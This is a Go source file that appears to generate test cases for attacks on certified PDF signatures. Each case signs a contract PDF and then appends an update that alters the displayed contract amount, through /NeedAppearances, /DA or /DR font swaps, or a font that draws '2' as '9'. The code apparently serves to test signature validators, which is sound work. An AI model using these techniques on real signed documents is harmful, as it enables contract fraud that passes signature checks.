package attacks

import (
	"fmt"

	"segel/pdf"
)

// Class 3: form-level settings. The AcroForm's /NeedAppearances, /DA and
// /DR decide what viewers draw for fields whose appearance they (re)build;
// the policy allows only /Fields to grow and /SigFlags to be set.
func class3() []spec {
	return []spec{
		{"c3-needappearances-set", "a text field over the amount holds the new amount in /V but an empty appearance; the attacker sets /NeedAppearances true and viewers rebuild the appearance from /V", c3NeedAppearances(naDirect)},
		{"c3-needappearances-indirect", "as c3-needappearances-set, but /NeedAppearances is an indirect boolean (false when signed) that the attacker rewrites to true", c3NeedAppearances(naIndirect)},
		{"c3-needappearances-with-fill", "/NeedAppearances is set together with an allowed P=2 fill of another field", c3NeedAppearances(naWithFill)},
		{"c3-acroform-replaced", "the catalog's /AcroForm is pointed to a new dictionary with the same /Fields and /NeedAppearances true", c3NeedAppearances(naReplaced)},
		{"c3-da-font-swap", "a field without appearance shows the amount, drawn by viewers with the form's /DA; the attacker points /DA at a /DR font without a glyph for 2 and poppler shows Rp 50.000.000", c3DA},
		{"c3-da-indirect-string", "the form's /DA is an indirect string; the attacker rewrites that string object to name a font without a glyph for 2", c3DAIndirect},
		{"c3-dr-font-swap", "the attacker repoints the form's /DR /Helv to a font without a glyph for 2 (its /Differences put nine there), so the rebuilt amount loses its 2", c3DRSwap},
		{"c3-field-da-changed", "a field without appearance (viewers build it) gets a new /DA naming a /DR font without a glyph for 2; its /V stays the same", c3FieldDA},
		{"c3-dr-swap-ap-state-dict", "the field over the amount has an /AP whose /N is a dictionary of states and an /AS naming a state it lacks (no appearance is selected, so poppler builds one from /V); the attacker swaps the form's /DR font", c3StateDict(false)},
		{"c3-da-swap-ap-state-dict", "as c3-dr-swap-ap-state-dict, but the attacker points the form's /DA at another /DR font without a glyph for 2", c3StateDict(true)},
		{"c3-dr-font-object-rewritten", "the /DR font object (used by no page) is rewritten without a glyph for 2, so the rebuilt amount loses its 2", c3DRRewrite},
	}
}

// emptyAP is an appearance that draws nothing (300 x 22).
const emptyAP = "/Tx BMC EMC"

// How the attacker sets /NeedAppearances.
const (
	naDirect   = iota // in the AcroForm dictionary
	naIndirect        // by rewriting an indirect boolean
	naWithFill        // in the AcroForm dictionary, with a fill
	naReplaced        // in a new AcroForm dictionary
)

func c3NeedAppearances(how int) func(e Env, c *Case) {
	indirect, withFill := how == naIndirect, how == naWithFill
	return func(e Env, c *Case) {
		p := newPKS()
		u := newUpd(p.b)
		w := u.alloc()
		blank := u.add(stream(" /Type /XObject /Subtype /Form /BBox [0 0 300 22]", emptyAP))
		u.put(w, fmt.Sprintf("<< /Type /Annot /Subtype /Widget /FT /Tx /Ff 1 /T (Nilai) /V (Nilai kontrak: %s) /DA (/Helv 11 Tf 0 g) /Q 0 /Rect %s /F 4 /P %s /MK << /BG [1 1 1] >> /AP << /N %s >> >>",
			NewAmount, amountRect, ref(p.pageNum(u)), ref(blank)))
		note := u.alloc()
		u.put(note, p.textField(u, "Catatan", "-", u.add(textAP(p.helv, "-")), ""))
		p.plainPage(u, w, note)
		flag := "false"
		var nf uint32
		if indirect {
			nf = u.add("false")
			flag = ref(nf)
		}
		p.setFields(u, []uint32{w, note}, p.drForm()+" /NeedAppearances "+flag)
		p.commit(u)
		c.Signed = e.certify(p.b, 2)

		a := newUpd(c.Signed)
		if withFill {
			a.put(note, p.textField(a, "Catatan", fill, a.add(textAP(p.helv, fill)), ""))
		}
		af := dictOf(c.Signed, p.acro)
		delete(af, "NeedAppearances")
		switch how {
		case naIndirect:
			a.put(nf, "true")
		case naReplaced:
			n := a.add("<<" + inner(af) + " /NeedAppearances true>>")
			a.put(p.catalog, format(with(dictOf(c.Signed, p.catalog), "AcroForm", r(n))))
		default:
			a.put(p.acro, "<<"+inner(af)+" /NeedAppearances true>>")
		}
		c.File = a.finish("")
	}
}

// plantNoAP plants a text field over the amount line without an
// appearance, showing the old amount in its /V, with /NeedAppearances true
// so that viewers build its appearance from /DA and /DR; form gives the
// AcroForm entries besides /Fields and /NeedAppearances.
func (p *pks) plantNoAP(u *upd, form string) {
	w := u.alloc()
	u.put(w, fmt.Sprintf("<< /Type /Annot /Subtype /Widget /FT /Tx /Ff 1 /T (Nilai) /V (Nilai kontrak: %s) /Rect %s /F 4 /P %s >>",
		OldAmount, amountRect, ref(p.pageNum(u))))
	p.page4Cont = u.add(stream("", titleOps))
	p.addPage(u, fmt.Sprintf("/Resources %s /Contents %s /Annots [%s]", p.fontRes(), ref(p.page4Cont), ref(w)), 0)
	p.setFields(u, []uint32{w}, form+" /NeedAppearances true")
}

// nineFont is a Helvetica font dictionary that draws the code of "2" as
// the glyph "nine".
const nineFont = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding " + twoAsNine + " >>"

// plainFont is a Helvetica font dictionary.
const plainFont = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"

func c3DA(e Env, c *Case) {
	c.Shown = ShortAmount
	p := newPKS()
	u := newUpd(p.b)
	nine := u.add(nineFont)
	form := func(da string) string {
		return fmt.Sprintf("/DR << /Font << /Helv %s /HeZ %s >> >> /DA (%s)", ref(p.helv), ref(nine), da)
	}
	p.plantNoAP(u, form("/Helv 11 Tf 0 g"))
	p.commit(u)
	c.Signed = e.certify(p.b, 2)

	a := newUpd(c.Signed)
	p.setFieldsFrom(a, c.Signed, form("/HeZ 11 Tf 0 g")+" /NeedAppearances true")
	c.File = a.finish("")
}

func c3DAIndirect(e Env, c *Case) {
	c.Shown = ShortAmount
	p := newPKS()
	u := newUpd(p.b)
	nine := u.add(nineFont)
	da := u.add("(/Helv 11 Tf 0 g)")
	p.plantNoAP(u, fmt.Sprintf("/DR << /Font << /Helv %s /HeZ %s >> >> /DA %s", ref(p.helv), ref(nine), ref(da)))
	p.commit(u)
	c.Signed = e.certify(p.b, 2)

	a := newUpd(c.Signed)
	a.put(da, "(/HeZ 11 Tf 0 g)")
	c.File = a.finish("")
}

func c3DRSwap(e Env, c *Case) {
	c.Shown = ShortAmount
	p := newPKS()
	u := newUpd(p.b)
	p.plantNoAP(u, p.drForm())
	p.commit(u)
	c.Signed = e.certify(p.b, 2)

	a := newUpd(c.Signed)
	nine := a.add(nineFont)
	p.setFieldsFrom(a, c.Signed, fmt.Sprintf("/DR << /Font << /Helv %s >> >> /DA (/Helv 9 Tf 0 g) /NeedAppearances true", ref(nine)))
	c.File = a.finish("")
}

func c3DRRewrite(e Env, c *Case) {
	c.Shown = ShortAmount
	p := newPKS()
	u := newUpd(p.b)
	f := u.add(plainFont)
	p.plantNoAP(u, fmt.Sprintf("/DR << /Font << /Helv %s >> >> /DA (/Helv 11 Tf 0 g)", ref(f)))
	p.commit(u)
	c.Signed = e.certify(p.b, 2)

	a := newUpd(c.Signed)
	a.put(f, nineFont)
	c.File = a.finish("")
}

// setFieldsFrom rewrites the AcroForm of file in u keeping its /Fields and
// /SigFlags, with the given other entries (PDF syntax).
func (p *pks) setFieldsFrom(u *upd, file []byte, entries string) {
	af := dictOf(file, p.acro)
	keep := "/Fields " + pdf.Format(af["Fields"])
	if sf, ok := af["SigFlags"]; ok {
		keep += " /SigFlags " + fmt.Sprint(sf)
	}
	u.put(p.acro, "<< "+keep+" "+entries+" >>")
}

func c3FieldDA(e Env, c *Case) {
	c.Shown = ShortAmount
	p := newPKS()
	u := newUpd(p.b)
	nine := u.add(nineFont)
	w := u.alloc()
	field := func(da string) string {
		return fmt.Sprintf("<< /Type /Annot /Subtype /Widget /FT /Tx /Ff 1 /T (Nilai) /V (Nilai kontrak: %s) /DA (%s) /Rect %s /F 4 /P %s >>",
			OldAmount, da, amountRect, ref(p.pageNum(u)))
	}
	u.put(w, field("/Helv 11 Tf 0 g"))
	p.page4Cont = u.add(stream("", titleOps))
	p.addPage(u, fmt.Sprintf("/Resources %s /Contents %s /Annots [%s]", p.fontRes(), ref(p.page4Cont), ref(w)), 0)
	p.setFields(u, []uint32{w}, fmt.Sprintf("/DR << /Font << /Helv %s /HeZ %s >> >> /DA (/Helv 11 Tf 0 g) /NeedAppearances true", ref(p.helv), ref(nine)))
	p.commit(u)
	c.Signed = e.certify(p.b, 2)

	a := newUpd(c.Signed)
	a.put(w, field("/HeZ 11 Tf 0 g"))
	c.File = a.finish("")
}

// c3StateDict plants a text field whose /AP /N is a dictionary of states
// and whose /AS names a state it does not have, and /NeedAppearances
// absent; the attack changes the form's /DA (da) or /DR.
func c3StateDict(da bool) func(e Env, c *Case) {
	return func(e Env, c *Case) {
		c.Shown = ShortAmount
		p := newPKS()
		u := newUpd(p.b)
		nine := u.add(nineFont)
		blank := u.add(stream(" /Type /XObject /Subtype /Form /BBox [0 0 300 22]", emptyAP))
		w := u.alloc()
		u.put(w, fmt.Sprintf("<< /Type /Annot /Subtype /Widget /FT /Tx /Ff 1 /T (Nilai) /V (Nilai kontrak: %s) /Rect %s /F 4 /P %s /AS /On /AP << /N << /Off %s >> >> >>",
			OldAmount, amountRect, ref(p.pageNum(u)), ref(blank)))
		p.page4Cont = u.add(stream("", titleOps))
		p.addPage(u, fmt.Sprintf("/Resources %s /Contents %s /Annots [%s]", p.fontRes(), ref(p.page4Cont), ref(w)), 0)
		form := func(helv uint32, daFont string) string {
			return fmt.Sprintf("/DR << /Font << /Helv %s /HeZ %s >> >> /DA (/%s 11 Tf 0 g)", ref(helv), ref(nine), daFont)
		}
		p.setFields(u, []uint32{w}, form(p.helv, "Helv"))
		p.commit(u)
		c.Signed = e.certify(p.b, 2)

		a := newUpd(c.Signed)
		if da {
			p.setFieldsFrom(a, c.Signed, form(p.helv, "HeZ"))
		} else {
			p.setFieldsFrom(a, c.Signed, form(nine, "Helv"))
		}
		c.File = a.finish("")
	}
}
